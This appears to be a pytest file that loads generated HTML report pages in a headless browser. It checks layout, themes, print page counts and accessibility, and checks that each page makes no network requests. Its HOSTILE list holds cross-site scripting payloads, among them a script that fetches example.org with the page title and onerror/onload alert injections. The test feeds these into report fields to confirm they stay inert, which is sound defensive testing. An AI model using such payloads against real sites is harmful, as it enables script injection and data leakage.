"""Tests of pages in a browser: at every width, light and dark, on paper, and without a network.

They need chromium-headless-shell, node, and what `package.json` names: `npm install` in this
folder, or the folder of another installation in NODE_PATH.
"""

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

HERE = Path(__file__).parent
MODULES = Path(os.environ.get("NODE_PATH", HERE / "node_modules"))
NODE = shutil.which("node")
BROWSER = shutil.which("chromium-headless-shell")


def missing():
    """Return what these tests lack on this machine; empty if they can run."""
    if not NODE:
        return "node is not installed"
    if not BROWSER:
        return "chromium-headless-shell is not installed"
    for package in ("puppeteer-core", "axe-core"):
        if not (MODULES / package).is_dir():
            return f"{package} is not in {MODULES}: npm install in tests/browser"
    return ""


pytestmark = pytest.mark.skipif(bool(missing()), reason=missing() or "all is there")

# Each page with the sheets of paper that it may take; None for as many as it has chapters.
PAGES = {
    "week last": 2,
    "summary": 1,
    "summary --by team,topic": 2,
    "summary --by topic --across month": 1,
    "summary --flow": 1,
    "repeats": 3,
    "repeats --changes": 2,
    "card fees": 2,
    "meeting plan": 3,
    "tabletop fees": 3,
    "tabletop fees --answers": 3,
    "handbook": None,
    "subject-access sam ada": None,
}
HOSTILE = [
    "<script>fetch('https://example.org/?' + document.title)</script>",
    "</style></title></main><img src='https://example.org/x.png' onerror='alert(1)'>",
    "\"><svg onload=alert(1)> <a href='javascript:alert(1)'>here</a>",
    "<iframe src=https://example.org></iframe><link rel=stylesheet href=//example.org>",
    "\u202e\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u2066abc",
    "Donaudampfschifffahrtsgesellschaftskapitaen" * 40,
]


def seen(files):
    """Return what a browser sees of each page: its views, its first stop, its prints."""
    command = [NODE, HERE / "look.mjs", MODULES, BROWSER, *files]
    # The test's own home folder is not the browser's: it would fill it with a profile.
    done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr
    return list(json.loads(done.stdout).values())


def check(page, file):
    assert set(page["requests"]) == {file.as_uri()}
    assert page["errors"] == []
    assert page["shadesLost"] == 0
    for view, state in page["views"].items():
        assert (view, state) == (view, {"scrollsBy": 0, "violations": []})
    assert page["firstStop"] == "Skip to the content"


@pytest.fixture
def demo(home, at, by):
    at("2026-11-23T08:30:00+00:00")
    assert by("sam", "demo", "--keep", "demo.db").code == 0
    return lambda *line: by("sam", "--db", "demo.db", *line)


def test_each_page_is_read_at_every_width_in_the_light_in_the_dark_and_on_paper(demo, home):
    files = []
    for number, line in enumerate(PAGES):
        result = demo(*line.split(), "-o", f"page-{number}.html")
        assert result.code == 0, result.err
        files.append(home / f"page-{number}.html")
    for page, file, most in zip(seen(files), files, PAGES.values(), strict=True):
        check(page, file)
        if most:
            assert max(page["printed"].values()) <= most, (file, page["printed"])


def test_no_text_acts_in_a_browser_or_makes_a_page_too_wide(home, at, by):
    at("2026-11-17T09:00:00+00:00")
    files = []
    for text in HOSTILE:
        fields = []
        for option in ("--recovery", "--expected", "--why", "--lesson"):
            fields += [option, text]
        fields += ["--rule", text[:200]]
        name = text.replace(";", " ")[:60]
        where = ["--team", name, "--topic", name, "--topic", "fees"]
        result = by("ada", "mistake", *where, *fields, "--share", "meeting", "--", text)
        assert result.code == 0, result.err
        adopted = by("ada", "status", "last", "adopted", text)
        assert adopted.code == 0, adopted.err
    for number, line in enumerate(PAGES):
        result = by("ada", *line.replace("last", "this").split(), "-o", f"page-{number}.html")
        assert result.code == 0, result.err
        files.append(home / f"page-{number}.html")
    for page, file in zip(seen(files), files, strict=True):
        check(page, file)
